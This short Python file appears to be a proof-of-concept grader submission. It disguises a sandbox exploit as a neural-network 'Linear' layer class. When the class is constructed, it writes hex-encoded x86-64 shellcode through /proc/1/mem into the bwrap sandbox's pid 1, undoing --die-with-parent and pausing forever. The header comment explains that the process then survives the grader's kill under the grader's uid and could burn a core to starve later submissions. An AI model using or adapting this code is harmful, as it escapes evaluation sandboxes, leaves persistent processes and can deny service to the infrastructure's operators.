# F3's consequence: the child writes code over bwrap pid 1's next instruction (pid 1 waits in wait4 for the child):
# prctl(PR_SET_PDEATHSIG, 0) (undoing --die-with-parent), then pause() for ever; then the child exits, wait4 returns
# into that code, and pid 1 outlives the grader's kill of the bwrap process it started (killpg + kill of that pid:
# pid 1 is in a new session of its own). A process the submission left behind, running as the grader's uid
# (pause() here; it could burn a core for ever, starving every later submission).
import os
unhook()
CODE = bytes.fromhex("bf01000000" "31f6" "b89d000000" "0f05" "b822000000" "0f05" "ebf7")


def _linger():
    sysc = open("/proc/1/syscall").read().split()
    pc = int(sysc[-1], 16)
    fd = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(fd, CODE, pc)
    os.close(fd)
    return f"wrote {len(CODE)} bytes at pid 1's pc {pc:#x} (in syscall {sysc[0]})"


class Linear:
    def __init__(self, *a, **k):
        import sys
        sys.stderr.write("LINGER " + _linger() + "\n")
        sys.stderr.flush()
        os._exit(0)

    def forward(self, X, training=False):
        return X

    def backward(self, dY):
        return dY
